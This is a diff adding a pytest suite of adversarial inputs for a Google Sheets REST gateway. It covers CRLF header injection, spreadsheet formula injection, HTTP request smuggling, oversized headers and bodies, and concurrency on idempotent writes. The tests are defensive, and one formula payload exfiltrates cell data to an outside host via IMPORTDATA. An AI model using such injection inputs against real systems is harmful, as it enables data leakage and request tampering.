@@ -1,0 +1,311 @@
+"""The nasty list: every attack and odd input that was thought of, and what must become of it.
+
+One test or table for each line; the inputs are in `nasty_inputs`, with the tests elsewhere that
+hold the lines for which a request or a fault is not enough.
+"""
+
+import json
+from collections import Counter
+from collections.abc import Mapping
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+import tests.journeys.nasty_inputs as nasty
+from tests.journeys.conftest import Api, OpenGateway
+from tests.journeys.connection import said_to
+from tests.journeys.failure import anonymous, refused
+from tests.journeys.raw import send_raw
+
+TOP = Path(__file__).parents[2]
+ROW = b'{"name":"written"}'
+WRITES = [("POST", "Cities"), ("POST", "Cities/2"), ("PUT", "Cities/2"), ("PATCH", "Cities/2")]
+
+
+def table(inputs: Mapping[str, Any]) -> pytest.MarkDecorator:
+    """A case for each input of a line; the first argument of the test is its name."""
+    return pytest.mark.parametrize("name", inputs, ids=lambda name: quote(name[:30], safe=" ,"))
+
+
+def strict(content: bytes) -> Any:
+    """JSON as the standard has it."""
+
+    def refuse(text: str) -> None:
+        raise ValueError(f"{text} is no JSON")
+
+    return json.loads(content, parse_constant=refuse)
+
+
+@pytest.mark.parametrize("spreadsheet", nasty.IDS, ids=lambda text: text[:20])
+def test_an_id_that_leads_elsewhere(shared_api: Api, spreadsheet: str) -> None:
+    """400 by every way in, and nothing is asked of Google."""
+    encoded = quote(spreadsheet)
+    key = ("Authorization", shared_api.keys["any"])
+    header = ("X-Spreadsheet-Id", spreadsheet.encode("utf-8").decode("latin-1"))
+
+    answers = [
+        send_raw(shared_api, "GET", f"/v2/sheets/Cities?spreadsheetId={encoded}", headers=[key]),
+        send_raw(shared_api, "POST", "/v2/sheets/Cities", headers=[key, header], body=ROW),
+    ]
+
+    assert [refused(answer) for answer in answers] == [(400, 101)] * 2
+    assert shared_api.emulator.stats()["calls"] == {}
+
+
+def test_a_line_break_in_an_id(shared_api: Api) -> None:
+    """It adds no header and no request."""
+    target = "/v2/sheets/Cities?spreadsheetId=demo%0D%0AX-Spreadsheet-Id:%20other"
+    key = [("Authorization", shared_api.keys["two"])]
+
+    assert refused(send_raw(shared_api, "GET", target, headers=key)) == (400, 101)
+    assert shared_api.emulator.stats()["calls"] == {}
+
+
+@pytest.mark.parametrize("method", ["GET", "POST"])
+def test_an_id_that_is_shared_but_not_granted(shared_api: Api, method: str) -> None:
+    """The same bytes as for an id that nobody has, and no call."""
+    known, unknown = (
+        shared_api.send(method, "Secret", spreadsheet=each, content=ROW)
+        for each in ("third", "nowhere")
+    )
+
+    assert refused(known) == (404, 101)
+    assert anonymous(known) == anonymous(unknown)
+    assert shared_api.emulator.stats()["calls"] == {}
+
+
+def test_odd_cells(api: Api) -> None:
+    """They are kept as text, listed as valid JSON, and filters and orders work on them."""
+    created = [api.post("New", json={"name": cell, "state": "x"}) for cell in nasty.CELLS]
+    listed = api.get("New", params={"limit": "100", "where": '{"state":"x"}', "order": "name"})
+    records = strict(listed.content)["results"]
+    equal = {cell: {"name": cell} for cell in nasty.CELLS if len(cell) < 1000}
+    found = {
+        cell: strict(api.get("New", params={"where": json.dumps(where)}).content)["results"]
+        for cell, where in equal.items()
+    }
+    ranged = api.get("New", params={"where": '{"name":{"$gte":0}}'})
+
+    assert [answer.json()["name"] for answer in created] == list(nasty.CELLS)
+    assert Counter(record["name"] for record in records) == Counter(nasty.CELLS)
+    assert {cell: [each["name"] for each in rows] for cell, rows in found.items()} == {
+        cell: [cell] for cell in equal
+    }
+    assert strict(ranged.content)["results"] == []  # 5,000 nines are no finite number
+
+
+@table(nasty.ROWS)
+def test_an_odd_row(shared_api: Api, name: str) -> None:
+    """400 or 404, read or written; the header row and all others stay."""
+    before = shared_api.emulator.everything()
+
+    answers = [
+        send_raw(shared_api, method, f"/v2/sheets/Cities/{name}", body=ROW)
+        for method in ("GET", "POST", "PUT", "PATCH")
+    ]
+
+    assert [refused(answer)[0] for answer in answers] == [nasty.ROWS[name]] * 4
+    assert shared_api.emulator.everything() == before
+
+
+@table(nasty.NAMES)
+def test_an_odd_worksheet_name(shared_api: Api, name: str) -> None:
+    """The worksheet of exactly that name, or 105 or 400; never another."""
+    answer = send_raw(shared_api, "GET", f"/v2/sheets/{name}")
+
+    if nasty.NAMES[name] is None:
+        assert refused(answer) in ((404, 105), (400, 4003))
+    else:
+        assert [row["name"] for row in answer.json()["results"]] == [nasty.NAMES[name]]
+
+
+@table(nasty.BODIES)
+def test_an_odd_body(shared_api: Api, name: str) -> None:
+    """400 104 with the place; the sheet is unchanged."""
+    before = shared_api.emulator.everything()
+
+    answers = [
+        send_raw(shared_api, method, f"/v2/sheets/{path}", body=nasty.BODIES[name])
+        for method, path in WRITES
+    ]
+
+    assert [refused(answer) for answer in answers] == [(400, 104)] * 4
+    assert all(answer.json()["errors"][0]["pointer"].startswith("#") for answer in answers)
+    assert shared_api.emulator.everything() == before
+
+
+@pytest.mark.parametrize(
+    "text", ['=IMPORTDATA("https://x/"&A2)', "\t=1", "+cmd", "@x", "-1+1"], ids=repr
+)
+@pytest.mark.parametrize("value_input", ["raw", "user_entered"])
+def test_a_formula_from_outside(open_gateway: OpenGateway, text: str, value_input: str) -> None:
+    """It is stored as the text that it is, whichever way, and read back identical."""
+    api = open_gateway({"google.value_input": value_input})
+
+    created = api.post("New", json={"name": text})
+    updated = api.send("PUT", "Cities/2", json={"name": text})
+
+    for title, answer in (("New", created), ("Cities", updated)):
+        cell = api.emulator.cell(title, 2, 1)
+        assert answer.json()["name"] == api.get(f"{title}/2").json()["name"] == text
+        assert (cell["value"], cell["formula"]) == (text, None)
+
+
+@table(nasty.KEYS)
+def test_an_odd_key(shared_api: Api, name: str) -> None:
+    """401 or 400, never 500, and no call."""
+    headers, status = nasty.KEYS[name]
+    lines = [
+        (key, value.decode("latin-1") if isinstance(value, bytes) else value)
+        for key, value in headers.items()
+    ]
+
+    answers = [
+        send_raw(shared_api, method, "/v2/sheets/Cities", headers=lines, body=ROW)
+        for method in ("GET", "POST")
+    ]
+
+    assert [refused(answer)[0] for answer in answers] == [status] * 2
+    assert shared_api.emulator.stats()["calls"] == {}
+
+
+@table(nasty.QUERIES)
+def test_an_odd_query(shared_api: Api, name: str) -> None:
+    """400, never everything, never 500."""
+    assert refused(shared_api.get("Cities", params=nasty.QUERIES[name])) == (400, 4002)
+
+
+@pytest.mark.parametrize("length", [4_097, 8_000, 60_000])
+def test_an_endless_query(shared_api: Api, length: int) -> None:
+    """It is refused by its length, and the next request is answered."""
+    answer = send_raw(shared_api, "GET", "/v2/sheets/Cities?where=" + "[" * length)
+
+    assert answer.status_code in (400, 414, 431)
+    assert shared_api.names("Cities", limit="1") == ["New York"]
+
+
+def test_keys_of_nothing_but_commas(shared_api: Api) -> None:
+    """As if they named nothing that is there: `rowIndex` alone."""
+    answer = shared_api.get("Cities", params={"keys": ",,,", "limit": "1"})
+
+    assert answer.json()["results"] == [{"rowIndex": 2}]
+
+
+def test_an_answer_that_was_lost(api: Api) -> None:
+    """Repeated with the same Idempotency-Key: one row, and its answer again."""
+    headers = {"Idempotency-Key": "once"}
+
+    first = api.post("New", json={"name": "x"}, headers=headers)
+    again = api.post("New", json={"name": "x"}, headers=headers)
+
+    assert (first.status_code, again.status_code) == (201, 201)
+    assert again.json() == first.json()
+    assert again.headers["idempotent-replayed"] == "true"
+    assert api.emulator.texts("New")[1:] == [["x"]]
+
+
+@table(nasty.APPENDS)
+def test_a_write_of_which_google_says_nothing_clear(looking_api: Api, name: str) -> None:
+    """One row or none, and the outcome that is told is true."""
+    fault, rows, outcome = nasty.APPENDS[name]
+    looking_api.emulator.faults({"call": "values.append", **fault})
+
+    answer = looking_api.post("New", json={"name": "x"})
+
+    assert looking_api.emulator.texts("New")[1:] == [["x"]] * rows
+    assert answer.json().get("outcome") == outcome
+    assert (answer.status_code == 201) == (outcome is None)
+
+
+def test_twins_at_once(api: Api) -> None:
+    """50 with one Idempotency-Key: one row."""
+
+    def create(_: int) -> int:
+        return api.post("New", json={"name": "x"}, headers={"Idempotency-Key": "k"}).status_code
+
+    with ThreadPoolExecutor(25) as pool:
+        statuses = Counter(pool.map(create, range(50)))
+
+    assert set(statuses) <= {201, 409}
+    assert statuses[201] >= 1
+    assert api.emulator.texts("New")[1:] == [["x"]]
+
+
+@table(nasty.PLACES)
+def test_a_create_where_the_end_is_hard_to_find(api: Api, name: str) -> None:
+    """40 at once: below everything, in their column, one under the other, each row as told."""
+    row, column = nasty.PLACES[name]
+    before = api.emulator.texts(name)
+
+    with ThreadPoolExecutor(20) as pool:
+        answers = [*pool.map(lambda n: api.post(name, json={"name": f"n{n}"}), range(40))]
+    after = api.emulator.texts(name)
+
+    told = {answer.json()["rowIndex"]: answer.json()["name"] for answer in answers}
+    assert after[: len(before)] == before
+    assert sorted(told) == [*range(row, row + 40)]
+    assert {number: after[number - 1][column - 1] for number in told} == told
+
+
+@table(nasty.GOOGLE)
+def test_a_google_that_misbehaves(open_gateway: OpenGateway, name: str) -> None:
+    """The right error within the deadline, and the next request is well."""
+    settings = {"google.read_timeout_seconds": 2.0, "google.max_answer_bytes": 1_000_000}
+    api = open_gateway(settings)
+    fault, code = nasty.GOOGLE[name]
+    api.emulator.faults({"times": 9, **fault})
+
+    answer = api.get("Cities")
+    api.emulator.faults()
+
+    assert refused(answer)[1] == code
+
+
+@table(nasty.SMUGGLED)
+def test_two_requests_in_one(shared_api: Api, name: str) -> None:
+    """Refused: what follows it on the connection is never answered as a request of its own."""
+    answers = said_to(shared_api, nasty.SMUGGLED[name].encode())
+
+    assert answers.startswith(b"HTTP/1.1 400 ")
+    assert answers.count(b"HTTP/1.1 ") == 1
+    assert shared_api.names("Cities", limit="1") == ["New York"]
+
+
+def test_a_pipelined_pair(shared_api: Api) -> None:
+    """Each is answered, in their order."""
+    answers = said_to(shared_api, nasty.PIPELINED.encode()).lower()
+
+    assert answers.count(b"http/1.1 200 ") == 2
+    assert answers.index(b"x-request-id: first") < answers.index(b"x-request-id: second")
+
+
+def test_a_head_without_end(shared_api: Api) -> None:
+    """It is refused by its length, and others are unaffected."""
+    head = "GET /livez HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + "X: y\r\n" * 5_000 + "\r\n"
+
+    assert said_to(shared_api, head.encode()).startswith(b"HTTP/1.1 431 ")
+    assert shared_api.names("Cities", limit="1") == ["New York"]
+
+
+def test_a_body_without_end(shared_api: Api) -> None:
+    """In chunks, without a length: refused as soon as it is too large."""
+    head = "POST /v2/sheets/New HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
+    head += f"Authorization: {shared_api.keys['paid']}\r\nTransfer-Encoding: chunked\r\n\r\n"
+    chunk = b"10000\r\n" + b"x" * 65_536 + b"\r\n"
+
+    assert said_to(shared_api, head.encode() + chunk * 16 + b"1\r\nx\r\n").startswith(
+        b"HTTP/1.1 413 "
+    )
+    assert shared_api.emulator.texts("New") == [["name", "state", "country", "population"]]
+
+
+@table(nasty.ELSEWHERE)
+def test_a_line_that_is_held_elsewhere(name: str) -> None:
+    """The tests that hold it are there."""
+    for test in nasty.ELSEWHERE[name]:
+        file, _, function = test.partition("::")
+
+        assert f"def {function}(" in (TOP / file).read_text("utf-8")
